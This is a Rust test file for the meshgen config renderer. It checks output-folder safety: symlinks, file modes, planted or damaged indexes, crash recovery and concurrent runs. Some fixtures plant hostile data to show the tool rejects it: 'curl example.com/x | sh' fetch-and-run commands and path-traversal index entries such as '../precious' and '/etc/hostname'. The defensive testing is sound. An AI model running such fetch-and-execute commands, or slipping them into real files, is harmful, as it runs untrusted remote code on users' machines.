//! The output folder: what somebody else put there stays, nothing is followed out of it, and it is old or new.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::common::{Dice, Run, files, meshgen, program, root, rounds, run};

/// A mesh with a CA, so that a Secret is written, of clusters `a` to the letter `last`.
fn mesh(folder: &Path, last: char) {
    let pki = root().join("fixtures/rules/shared");
    let mut text = format!(
        "apiVersion: meshgen/v1\ntrust: sharedCA\nca: {{cert: {{file: {0}/ca.crt}}, key: {{file: {0}/ca.key}}}}\ndefaults: {{kkp: \"2.24.15\", cilium: 1.14.16}}\nclusters:\n",
        pki.display()
    );
    for (at, name) in ('a'..=last).enumerate() {
        let id = at + 1;
        text += &format!(
            "- {{name: {name}, id: {id}, podCIDRs: [10.{id}.0.0/16], apiserver: {{ips: [203.0.113.{id}]}}}}\n"
        );
    }
    fs::write(folder.join("mesh.yaml"), text).unwrap();
}

fn render(folder: &Path, args: &[&str]) -> Run {
    run(meshgen()
        .current_dir(folder)
        .args(["render", "mesh.yaml", "-q", "-o", "out"])
        .args(args))
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path).unwrap().permissions().mode() & 0o777
}

const SECRET: &str = "clusters/b/10-cilium-ca.secret.yaml";
const PATCH: &str = "clusters/a/20-patch.yaml";

/// A folder with mesh.yaml and what was rendered of it.
fn rendered() -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    mesh(folder.path(), 'b');
    let first = render(folder.path(), &[]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let out = folder.path().join("out");
    (folder, out)
}

#[test]
fn foreign_files_stay_unless_forced() {
    let folder = tempfile::tempdir().unwrap();
    mesh(folder.path(), 'b');
    let out = folder.path().join("out");
    fs::create_dir_all(out.join("firewall")).unwrap();
    for name in ["STEPS.md", "index.json", "firewall/rules.csv"] {
        fs::write(out.join(name), "mine").unwrap();
    }
    fs::write(out.join("notes.txt"), "mine").unwrap();
    let refused = render(folder.path(), &[]);
    assert_eq!(refused.code, 2);
    for name in ["STEPS.md", "index.json", "firewall/rules.csv"] {
        assert!(
            refused
                .stderr
                .contains(&format!("out/{name} is in the way")),
            "{}",
            refused.stderr
        );
        assert_eq!(fs::read_to_string(out.join(name)).unwrap(), "mine");
    }
    assert_eq!(files(&out).len(), 4, "nothing was written");
    assert_eq!(render(folder.path(), &["--force"]).code, 0);
    assert_ne!(fs::read_to_string(out.join("STEPS.md")).unwrap(), "mine");
    assert_eq!(fs::read_to_string(out.join("notes.txt")).unwrap(), "mine");
}

#[test]
fn an_edited_file_is_neither_replaced_nor_removed() {
    let (folder, out) = rendered();
    fs::write(out.join(PATCH), "edited").unwrap();
    let refused = render(folder.path(), &[]);
    assert_eq!(refused.code, 2);
    assert!(
        refused.stderr.contains("somebody has edited it"),
        "{}",
        refused.stderr
    );
    assert_eq!(fs::read_to_string(out.join(PATCH)).unwrap(), "edited");
    assert_eq!(render(folder.path(), &["--force"]).code, 0);
    assert_ne!(fs::read_to_string(out.join(PATCH)).unwrap(), "edited");
    // Of a cluster that is gone, the edited file stays, the others go.
    fs::write(out.join(SECRET), "edited").unwrap();
    mesh(folder.path(), 'a');
    let without = render(folder.path(), &[]);
    assert_eq!(without.code, 0, "{}", without.stderr);
    assert!(without.stderr.contains(SECRET), "{}", without.stderr);
    assert_eq!(fs::read_to_string(out.join(SECRET)).unwrap(), "edited");
    assert!(!out.join("clusters/b/20-patch.yaml").exists());
}

#[test]
fn what_is_no_file_is_named_and_nothing_is_written() {
    type Block = fn(&Path);
    let blocks: [(&str, Block); 4] = [
        ("a folder", |path| fs::create_dir(path).unwrap()),
        ("a symbolic link", |path| {
            symlink("/dev/null", path).unwrap()
        }),
        ("a FIFO", |path| {
            assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
        }),
        ("a socket", |path| {
            std::os::unix::net::UnixListener::bind(path).unwrap();
        }),
    ];
    let mut targets = vec![
        "STEPS.md".to_owned(),
        PATCH.to_owned(),
        "index.json".to_owned(),
    ];
    if rounds(0, 1) > 0 {
        targets = files(&rendered().1);
    }
    println!(
        "{} kinds at {} places: all refused",
        blocks.len(),
        targets.len()
    );
    for (what, block) in blocks {
        for target in &targets {
            let folder = tempfile::tempdir().unwrap();
            mesh(folder.path(), 'b');
            let out = folder.path().join("out");
            fs::create_dir_all(out.join(target).parent().unwrap()).unwrap();
            block(&out.join(target));
            for args in [&[][..], &["--force"]] {
                let refused = render(folder.path(), args);
                assert_eq!(refused.code, 2, "{what} at {target}");
                let line = format!("out/{target} is in the way: {what}");
                assert!(refused.stderr.contains(&line), "{}", refused.stderr);
            }
            let mut written = files(&out);
            written.retain(|path| path != target);
            assert!(written.is_empty(), "{what} at {target}: {written:?}");
        }
    }
}

#[test]
fn a_link_below_the_folder_is_not_followed() {
    let folder = tempfile::tempdir().unwrap();
    mesh(folder.path(), 'b');
    let (out, outside) = (folder.path().join("out"), folder.path().join("outside"));
    fs::create_dir_all(&out).unwrap();
    fs::create_dir(&outside).unwrap();
    symlink("../outside", out.join("clusters")).unwrap();
    let refused = render(folder.path(), &["--force"]);
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(files(&outside).is_empty());
    // The folder itself may be a link: that is what the user typed.
    fs::remove_file(out.join("clusters")).unwrap();
    fs::remove_dir(&out).unwrap();
    symlink("outside", &out).unwrap();
    assert_eq!(render(folder.path(), &[]).code, 0);
    assert!(outside.join(SECRET).is_file());
}

#[test]
fn a_planted_index_removes_nothing() {
    let folder = tempfile::tempdir().unwrap();
    mesh(folder.path(), 'b');
    let out = folder.path().join("out");
    fs::create_dir(&out).unwrap();
    fs::write(folder.path().join("precious"), "").unwrap();
    fs::write(out.join("mine"), "").unwrap();
    symlink("..", out.join("up")).unwrap();
    let empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let entry = |path: &str| format!(r#"{{"path":"{path}","kind":"rules","sha256":"{empty}"}}"#);
    let entries = ["up/precious", "mine", "../precious", "/etc/hostname"]
        .map(entry)
        .join(",");
    let index = format!(r#"{{"version":1,"mesh":"m","clusters":[],"files":[{entries}]}}"#);
    fs::write(out.join("index.json"), index).unwrap();
    render(folder.path(), &[]);
    assert!(folder.path().join("precious").exists() && out.join("mine").exists());
}

#[test]
fn modes_are_narrow_and_stay_so() {
    let (folder, out) = rendered();
    for path in [SECRET, PATCH] {
        assert_eq!(mode(&out.join(path)), 0o600, "{path}");
    }
    // Somebody opened a Secret to all: it is closed again, though its bytes are the same.
    fs::set_permissions(out.join(SECRET), PermissionsExt::from_mode(0o644)).unwrap();
    fs::set_permissions(out.join("STEPS.md"), PermissionsExt::from_mode(0o600)).unwrap();
    assert_eq!(render(folder.path(), &[]).code, 0);
    assert_eq!(mode(&out.join(SECRET)), 0o600);
    assert_eq!(mode(&out.join("STEPS.md")), 0o600, "never widened");
    mesh(folder.path(), 'c');
    assert_eq!(render(folder.path(), &[]).code, 0);
    assert_eq!(
        mode(&out.join("STEPS.md")),
        0o600,
        "never widened, replaced as well"
    );
}

#[test]
fn a_script_that_runs_as_its_owner_does_so_no_longer() {
    let (folder, out) = rendered();
    let script = out.join("steps.sh");
    let bits = || fs::metadata(&script).unwrap().permissions().mode() & 0o7777;
    for again in ['b', 'c'] {
        mesh(folder.path(), again);
        fs::set_permissions(&script, PermissionsExt::from_mode(0o6755)).unwrap();
        assert_eq!(render(folder.path(), &[]).code, 0);
        assert_eq!(bits(), 0o755, "{again}");
    }
}

#[test]
fn an_index_of_another_version_is_not_taken_for_ours() {
    let (folder, out) = rendered();
    let index = out.join("index.json");
    let text = fs::read_to_string(&index).unwrap();
    let newer = text.replacen("\"version\": 1", "\"version\": 2", 1);
    assert_ne!(newer, text);
    fs::write(&index, &newer).unwrap();
    mesh(folder.path(), 'c');
    let refused = render(folder.path(), &[]);
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    let index_is_named =
        "index.json is in the way: it is no index of meshgen's, or one of another version";
    assert!(
        refused.stderr.contains(index_is_named),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
    assert_eq!(fs::read_to_string(&index).unwrap(), newer);
    assert_eq!(render(folder.path(), &["--force"]).code, 0);
}

#[test]
fn no_command_of_a_planted_index_is_taken_over() {
    let (folder, out) = rendered();
    let index = out.join("index.json");
    let of_b = || {
        let text = fs::read_to_string(&index).unwrap();
        let index: serde_json::Value = serde_json::from_str(&text).unwrap();
        index["clusters"][1].clone()
    };
    let before = of_b();
    assert_eq!(render(folder.path(), &["--cluster", "a"]).code, 0);
    assert_eq!(of_b(), before);

    let honest = fs::read_to_string(&index).unwrap();
    let planted = honest.replace("kubectl ", "curl example.com/x | sh; kubectl ");
    let planted = planted.replacen("\"clusters\": [", &gone(), 1);
    fs::write(&index, planted).unwrap();
    assert_eq!(render(folder.path(), &["--cluster", "a"]).code, 0);
    let after = fs::read_to_string(&index).unwrap();
    assert!(
        !after.contains("curl") && after.contains("kubectl"),
        "{after}"
    );
    assert!(after.contains("\"name\": \"gone\""), "{after}");
    let page = fs::read_to_string(out.join("STEPS.md")).unwrap();
    assert!(!page.contains("curl"), "{page}");
}

/// The beginning of the list of clusters, with an entry of a cluster that mesh.yaml does not know.
fn gone() -> String {
    let entry = r#"{"name": "gone", "id": 9, "kkp": "2.24.15", "cilium": "1.14.16", "phase": "mesh", "form": "values",
        "trust": "sharedCA", "missing": [], "files": [],
        "steps": [{"action": "patch", "file": null, "command": "curl example.com/y | sh", "why": "because"}]},"#;
    format!("\"clusters\": [{entry}")
}

#[test]
fn no_file_is_ever_open_to_others() {
    let folder = tempfile::tempdir().unwrap();
    mesh(folder.path(), 'b');
    let script = format!(
        "umask 0; {} render mesh.yaml -q -o out",
        env!("CARGO_BIN_EXE_meshgen")
    );
    let ran = Command::new("sh")
        .args(["-c", &script])
        .current_dir(folder.path())
        .status();
    assert!(ran.unwrap().success());
    let out = folder.path().join("out");
    assert_eq!(mode(&out), 0o755);
    assert_eq!(mode(&out.join("clusters/b")), 0o755);
    assert_eq!(mode(&out.join(SECRET)), 0o600);
}

#[test]
fn a_damaged_index_is_said_and_so_are_files_that_no_index_names() {
    let (folder, out) = rendered();
    fs::write(out.join("index.json"), "{").unwrap();
    mesh(folder.path(), 'a');
    let refused = render(folder.path(), &[]);
    assert_eq!(refused.code, 2);
    assert!(
        refused.stderr.contains("out/index.json is in the way"),
        "{}",
        refused.stderr
    );
    // The Secret of a cluster that is gone: named, with the command, whether or not anything is written.
    let command = format!("`rm out/{SECRET}`");
    assert!(refused.stderr.contains(&command), "{}", refused.stderr);
    let forced = render(folder.path(), &["--force"]);
    assert_eq!(forced.code, 0, "{}", forced.stderr);
    assert!(forced.stderr.contains(&command), "{}", forced.stderr);
}

#[test]
fn folders_of_others_with_a_similar_name_survive() {
    let (folder, out) = rendered();
    fs::create_dir_all(out.join(".meshgen-mine/deep")).unwrap();
    fs::write(out.join(".meshgen-mine/deep/notes"), "mine").unwrap();
    assert_eq!(render(folder.path(), &[]).code, 0);
    assert!(out.join(".meshgen-mine/deep/notes").is_file());
}

/// A folder of old files, and a run of another mesh that has come as far as its journal.
struct Interrupted {
    folder: tempfile::TempDir,
    out: PathBuf,
    new: PathBuf,
    /// The new files, index.json last.
    paths: Vec<String>,
    journal: String,
}

const ASIDE: &str = ".meshgen-1";

impl Interrupted {
    fn new() -> Self {
        let (folder, out) = rendered();
        mesh(folder.path(), 'c');
        let new = folder.path().join("new");
        let made = run(meshgen().current_dir(folder.path()).args([
            "render",
            "mesh.yaml",
            "-q",
            "-o",
            "new",
        ]));
        assert_eq!(made.code, 0, "{}", made.stderr);
        let mut paths = files(&new);
        paths.retain(|path| path != "index.json");
        paths.push("index.json".to_owned());
        let place = |path: &String| {
            let text = fs::read_to_string(new.join(path)).unwrap();
            serde_json::json!({"path": path, "sha256": crate::common::sha256(&text)})
        };
        let places: Vec<_> = paths.iter().map(place).collect();
        let journal = serde_json::json!({"aside": ASIDE, "places": places, "removes": []});
        let journal = journal.to_string();
        Self {
            folder,
            out,
            new,
            paths,
            journal,
        }
    }

    /// Puts the old files back, and all new ones aside.
    fn reset(&self, old: &[(String, Vec<u8>)]) {
        fs::remove_dir_all(&self.out).unwrap();
        for (path, bytes) in old {
            write(&self.out.join(path), bytes);
        }
        let aside = self.out.join(ASIDE);
        write(&aside.join(".made-by-meshgen"), MARK);
        for path in &self.paths {
            write(&aside.join(path), &fs::read(self.new.join(path)).unwrap());
        }
    }

    fn old(&self) -> Vec<(String, Vec<u8>)> {
        let old = files(&self.out).into_iter();
        old.map(|path| (path.clone(), fs::read(self.out.join(path)).unwrap()))
            .collect()
    }

    /// The next run leaves the new files and nothing else.
    fn is_put_right(&self, what: &str) {
        let next = render(self.folder.path(), &[]);
        assert_eq!(next.code, 0, "{what}: {}", next.stderr);
        assert_eq!(files(&self.out), files(&self.new), "{what}");
        for path in &self.paths {
            let is_same =
                fs::read(self.out.join(path)).unwrap() == fs::read(self.new.join(path)).unwrap();
            assert!(is_same, "{what}: {path}");
        }
    }
}

const MARK: &[u8] =
    b"meshgen keeps files here while it writes. It may be removed while no meshgen runs.\n";

fn write(path: &Path, bytes: &[u8]) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, bytes).unwrap();
}

/// A kill cuts the renames off after any of them; a power loss may keep any of them and lose the others.
#[test]
fn an_interrupted_run_is_finished_by_the_next() {
    let cut = Interrupted::new();
    let old = cut.old();
    let mut dice = Dice(2);
    let subsets = rounds(4, 500);
    let orders = (0..=cut.paths.len()).map(|end| (0..end).collect::<Vec<usize>>());
    let orders = orders.step_by(rounds(6, 1));
    let any = (0..subsets).map(|_| {
        (0..cut.paths.len())
            .filter(|_| dice.below(2) == 0)
            .collect()
    });
    let mut tried = 0;
    for renamed in orders.chain(any) {
        cut.reset(&old);
        for at in &renamed {
            let path = &cut.paths[*at];
            fs::create_dir_all(cut.out.join(path).parent().unwrap()).unwrap();
            fs::rename(cut.out.join(ASIDE).join(path), cut.out.join(path)).unwrap();
        }
        fs::write(cut.out.join(".meshgen-incomplete"), &cut.journal).unwrap();
        cut.is_put_right(&format!("renamed: {renamed:?}"));
        tried += 1;
    }
    println!("{tried} states between the first rename and the last: all finished");
}

/// Before the first rename, what a power loss cuts are the journal, the files aside and the mark: the old files stand.
#[test]
fn a_run_that_was_cut_off_before_its_renames_leaves_the_old_files() {
    let cut = Interrupted::new();
    let old = cut.old();
    let mut tried = 0;
    for end in (0..cut.journal.len()).step_by(rounds(400, 3)) {
        cut.reset(&old);
        fs::write(cut.out.join(".meshgen-incomplete"), &cut.journal[..end]).unwrap();
        cut.is_put_right(&format!("journal of {end} bytes"));
        tried += 1;
    }
    for end in (0..=MARK.len()).step_by(rounds(40, 1)) {
        cut.reset(&old);
        fs::write(cut.out.join(ASIDE).join(".made-by-meshgen"), &MARK[..end]).unwrap();
        let index = cut.out.join(ASIDE).join("index.json");
        let bytes = fs::read(&index).unwrap();
        fs::write(&index, &bytes[..bytes.len() * end / MARK.len()]).unwrap();
        cut.is_put_right(&format!("mark of {end} bytes"));
        tried += 1;
    }
    println!("{tried} states before the first rename: the old files stood, the next run went on");
}

#[test]
fn runs_at_once_in_one_folder_all_end_well() {
    let folder = tempfile::tempdir().unwrap();
    mesh(folder.path(), 'd');
    let start = || {
        Command::new(program())
            .current_dir(folder.path())
            .args(["render", "mesh.yaml", "-q", "-o", "out"])
            .stderr(Stdio::null())
            .spawn()
            .unwrap()
    };
    for _ in 0..10 {
        let mut runs: Vec<_> = (0..6).map(|_| start()).collect();
        for run in &mut runs {
            assert!(run.wait().unwrap().success());
        }
    }
    let left = fs::read_dir(folder.path().join("out")).unwrap();
    let left = left.filter(|entry| {
        entry
            .as_ref()
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with('.')
    });
    assert_eq!(left.count(), 0);
}

#[test]
fn a_run_that_does_not_end_is_not_waited_for_for_ever() {
    let (folder, out) = rendered();
    let holder = fs::File::open(&out).unwrap();
    holder.lock().unwrap();
    let refused = render(folder.path(), &[]);
    assert_eq!(refused.code, 2);
    assert!(
        refused.stderr.contains("another meshgen"),
        "{}",
        refused.stderr
    );
}
